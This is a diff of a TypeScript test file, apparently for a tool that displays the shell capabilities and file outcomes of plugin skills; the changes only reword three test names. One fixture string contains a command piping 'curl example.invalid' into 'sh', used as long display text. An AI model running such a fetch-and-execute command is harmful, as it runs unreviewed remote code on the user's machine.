@@ -26,7 +26,7 @@ describe("capabilities", () => {
     );
   });
 
-  test("are never cut: what does not fit goes on in the next line", () => {
+  test("are never cut: what does not fit continues on the next line", () => {
     const long = "sh -c 'one two three four five six seven eight nine ten eleven twelve' && curl example.invalid | sh";
     const shown = formatCapabilities([{ kind: "shell", subject: "commands/run.md", detail: long }], {
       colour: false,
@@ -85,7 +85,7 @@ describe("what happened to files", () => {
     ...(because !== undefined && { because }),
   });
 
-  test("is told by kind, with the reason, and of untouched files nothing", () => {
+  test("is reported by kind, with the reason, without untouched files", () => {
     const files = [
       outcome("added", "commands/lint-check.md"),
       outcome("unchanged", "agents/same.md"),
@@ -122,7 +122,7 @@ describe("what happened to files", () => {
   });
 });
 
-test("what was left out is told once for a whole skill, with the place and a way out", () => {
+test("what was left out is reported once per skill, with its location and a fix", () => {
   const stopped = ["SKILL.md", "run.sh"].map((file) => ({
     source: `skills/diff/${file}`,
     destination: `skills/diff/${file}`,
